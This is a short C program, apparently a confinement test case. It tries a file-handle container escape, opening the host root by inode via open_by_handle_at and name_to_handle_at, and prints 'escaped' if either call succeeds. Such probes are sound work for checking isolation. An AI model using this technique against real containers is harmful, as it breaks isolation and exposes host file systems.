// attacks: the host's file system, by file handles, which no path limits
// confined: passed, at most 1
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
int main(void) {
    struct file_handle *handle = calloc(1, sizeof *handle + 8);
    int mount;
    handle->handle_bytes = 8;
    handle->handle_type = 1;
    unsigned root = 2;
    memcpy(handle->f_handle, &root, 4);
    int fd = open("/", O_RDONLY | O_DIRECTORY);
    if (open_by_handle_at(fd, handle, O_RDONLY) >= 0) puts("escaped");
    if (name_to_handle_at(AT_FDCWD, "/", handle, &mount, 0) == 0) puts("escaped");
    return 0;
}
